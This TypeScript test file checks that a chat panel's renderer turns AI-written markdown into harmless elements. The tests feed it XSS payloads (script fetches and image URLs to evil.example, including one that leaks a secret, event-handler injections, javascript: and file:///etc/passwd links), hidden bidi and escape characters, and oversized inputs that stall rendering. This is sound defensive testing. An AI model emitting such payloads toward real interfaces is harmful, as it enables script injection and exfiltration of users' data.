// What a model writes is data: nothing of it may load, run, navigate, hide or hold up the panel.
import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { usePageDom } from './support/pageDom.ts';
import { allElements, renderPieces, renderWhole } from './support/rendering.ts';

/** The only elements that model text may become. */
const ALLOWED = new Set(
  'div p span code pre button svg path strong em del br a h3 h4 h5 h6 ul ol li input blockquote hr table thead tbody tr th td'.split(
    ' ',
  ),
);
/** Attributes that load, navigate, style or run. */
const FORBIDDEN = /^(on.*|href|src|srcset|style|action|formaction|poster|background|xlink:href)$/;

/** The height that a part of code will have, from its number of lines. */
const OWN_STYLE = /^contain-intrinsic-block-size: auto \d+lh;?$/;

function assertHarmless(root: HTMLElement): void {
  for (const element of allElements(root)) {
    assert.ok(ALLOWED.has(element.tagName.toLowerCase()), `<${element.tagName}>`);
    for (const { name, value } of [...element.attributes]) {
      if (name === 'style' && OWN_STYLE.test(value)) continue;
      assert.doesNotMatch(name, FORBIDDEN, `${element.tagName} ${name}=${value}`);
    }
  }
}

describe('a hostile answer', () => {
  usePageDom();

  const attacks: Record<string, string> = {
    script:
      'Hi <script>fetch("https://evil.example")</script> there\n\n<script src=https://evil.example/x.js></script>',
    'event handlers': '<img src=x onerror=alert(1)> <svg onload=alert(1)> <details ontoggle=alert(1) open>',
    'a style sheet':
      '<style>body{display:none}</style>\n\n<link rel=stylesheet href=//evil.example>\n\n<p style="position:fixed">',
    'a frame and a form': '<iframe src=https://evil.example></iframe>\n\n<form action=https://evil.example><button>',
    pictures:
      '![x](https://evil.example/?d=secret)\n\n![y][r]\n\n[r]: https://evil.example/2\n\n<img src="//evil.example/3">',
    'a base address':
      '<base href="https://evil.example">\n\n<meta http-equiv=refresh content="0;url=https://evil.example">',
    'a language label': '```"><img src=x onerror=alert(1)>\ncode\n```\n\n``` javascript" onclick="alert(1)\ncode\n```',
    'a table cell': '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
    'a heading and a list': '# <script>1</script>\n\n- <script>2</script>\n  - [ ] <input onfocus=alert(1) autofocus>',
  };
  for (const [name, text] of Object.entries(attacks)) {
    it(`with ${name} becomes harmless elements and visible text`, () => {
      for (const rendered of [renderWhole(text), renderPieces(text)]) {
        assertHarmless(rendered.element);
        assert.deepEqual(rendered.asked, []);
      }
    });
  }

  it('shows raw HTML as the text it is', () => {
    const { element } = renderWhole('a <b onclick=x>bold</b> b\n\n<div>\nblock\n</div>');
    assert.match(element.textContent, /<b onclick=x>bold<\/b>/);
    assert.match(element.textContent, /<div>\nblock\n<\/div>/);
  });

  for (const address of [
    'command:workbench.action.terminal.new',
    'file:///etc/passwd',
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'java&#10;script:alert(1)',
    'data:text/html,<script>1</script>',
    'vscode://ms.settings/x',
    'vscode-resource:/etc/passwd',
    '//evil.example/x',
    '/etc/passwd',
  ]) {
    it(`has no link to ${address}`, () => {
      const { element, asked } = renderWhole(`[click me](<${address}>) ![pic](<${address}>) <${address}>`);
      for (const each of allElements(element)) each.dispatchEvent(new window.Event('click', { bubbles: true }));
      assert.equal(element.querySelectorAll('a').length, 0);
      assert.deepEqual(asked, []);
      assert.match(element.textContent, /click me/);
    });
  }

  it('opens web links only after a click, with the address in its plain form', () => {
    const { element, asked } = renderWhole(
      '[https://good.example](https://xn--e1afmkfd.example/p?q=1) [x](https://пример.example)',
    );
    const links = [...element.querySelectorAll('a')];
    assert.deepEqual(asked, []);
    assert.equal(links[0]?.getAttribute('title'), 'https://xn--e1afmkfd.example/p?q=1');
    for (const link of links) link.dispatchEvent(new window.Event('click', { bubbles: true }));
    assert.deepEqual(asked, ['openLink https://xn--e1afmkfd.example/p?q=1', 'openLink https://xn--e1afmkfd.example/']);
  });

  it('makes direction overrides, escape sequences and invisible letters visible', () => {
    const text = 'if (a\u202e\u2066 == b) \u001b[31mred\u001b[0m zero\u200bwidth \u{e0041}tag bell\u0007';
    for (const source of [text, `\`${text}\``, `\`\`\`js\n${text}\n\`\`\``, `| ${text} |\n|---|\n| x |`]) {
      const shown = renderWhole(source).element.textContent;
      const hidden = ['\u202e', '\u2066', '\u200b', '\u001b', '\u0007', '\udb40'].filter((each) =>
        shown.includes(each),
      );
      assert.deepEqual(hidden, []);
      assert.match(shown, /U\+202E.*U\+2066.*ESC\[31m.*U\+200B.*U\+E0041.*U\+0007/s);
    }
  });

  it('leaves the marks alone that scripts and emoji need', () => {
    const text = 'שלום עולם \u200f(ב) می\u200cخواهم 👩\u200d💻';
    assert.equal(renderWhole(text).element.textContent, text);
  });

  it('gives the exact code to copy and insert, whatever is shown', () => {
    const code = "const a = '\u202e';\n\tb();";
    const { element, asked } = renderWhole(`\`\`\`js\n${code}\n\`\`\``);
    for (const label of ['Copy', 'Insert at Cursor', 'New File']) {
      element.querySelector(`button[aria-label="${label}"]`)?.dispatchEvent(new window.Event('click'));
    }
    assert.deepEqual(asked, [`copy ${code}`, `insert ${code}`, `newFile js ${code}`]);
  });

  it('keeps fences inside longer fences as code', () => {
    const { element } = renderPieces('````md\n# Title\n```js\nlet a\n```\n````\nafter\n');
    assert.equal(element.querySelectorAll('.code-block').length, 1);
    assert.equal(element.querySelector('pre')?.textContent, '# Title\n```js\nlet a\n```');
    assert.match(element.textContent, /after$/);
  });

  it('survives half a character', () => {
    const { element } = renderPieces(['ab\ud83d', '\udc4d cd \udc4d']);
    assert.match(element.textContent, /^ab👍 cd/);
  });

  const big: Record<string, string> = {
    'a line of 10 MB': 'x'.repeat(10_000_000),
    'a line of 10 MB in a code block': `\`\`\`\n${'y'.repeat(10_000_000)}\n\`\`\``,
    'brackets without end': '['.repeat(50_000),
    'crafted emphasis': `${'_a__ *b **c '.repeat(400)}\n`.repeat(30),
    'deep quotes': `${'> '.repeat(3_000)}x`,
    'deep lists on one line': `${'- '.repeat(2_000)}x\n${'1. '.repeat(1_500)}x`,
    'deep lists over lines': Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
    'backticks without end': '`a ``b ```c '.repeat(8_000),
    'entities without end': '&#x41;&amp;&'.repeat(8_000),
  };
  for (const [name, text] of Object.entries(big)) {
    it(`${name} is shown within seconds and is harmless`, function () {
      this.timeout(15_000);
      const begun = performance.now();
      const { element } = renderWhole(text);
      assert.ok(performance.now() - begun < 6_000, `${performance.now() - begun} ms`);
      assert.ok(element.textContent.length < 1_000_000);
      assertHarmless(element);
    });
  }

  const growing: Record<string, (piece: number) => string> = {
    'a line without end': () => 'x'.repeat(100_000),
    'a line without end in a code block': (piece) => (piece === 0 ? '```js\n' : '') + 'y'.repeat(100_000),
    'a table row without end': (piece) =>
      piece === 0 ? '| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n| 5 |' : ' cell |'.repeat(10_000),
    'a table without end': (piece) => (piece === 0 ? '| a | b |\n|---|---|\n' : '| 1 | 2 |\n'.repeat(2_000)),
    'a code block without end': (piece) => (piece === 0 ? '```ts\n' : 'const a = "b"; // c\n'.repeat(2_000)),
    'fences in fences without end': (piece) => `${'`'.repeat(3 + (piece % 5))}md\n${'text\n'.repeat(500)}`,
  };
  for (const [name, piece] of Object.entries(growing)) {
    it(`${name} is taken piece by piece within seconds and is harmless`, function () {
      this.timeout(30_000);
      const { element } = renderPieces(Array.from({ length: 60 }, (_, index) => piece(index)));
      assert.ok(element.textContent.length < 1_000_000, `${element.textContent.length} characters are laid out`);
      assertHarmless(element);
    });
  }

  it('lays out no more columns than anybody reads', () => {
    const { element } = renderPieces([
      `|${' a |'.repeat(5_000)}\n|${'---|'.repeat(5_000)}\n|`,
      `${' b |'.repeat(5_000)}\n`,
    ]);
    assert.ok(element.querySelectorAll('th, td').length <= 120);
  });

  it('offers the rest of a huge line in an editor', () => {
    const line = 'z'.repeat(100_000);
    const { element, asked } = renderWhole(`before\n\n${line}\nafter`);
    assert.ok(element.textContent.length < 25_000);
    element.querySelector('button')?.dispatchEvent(new window.Event('click'));
    assert.deepEqual(asked, [`newFile  ${line}`]);
    assert.match(element.textContent, /^before/);
    assert.match(element.textContent, /after$/);
  });

  it('shows a huge table in parts', function () {
    this.timeout(15_000);
    const rows = Array.from({ length: 3_000 }, (_, row) => `| ${row} | x |`).join('\n');
    const { element } = renderWhole(`| a | b |\n|---|---|\n${rows}`);
    assert.equal(element.querySelectorAll('tbody tr').length, 150);
    const more = element.querySelector('.table-frame button');
    more?.dispatchEvent(new window.Event('click'));
    assert.equal(element.querySelectorAll('tbody tr').length, 1_150);
  });
});
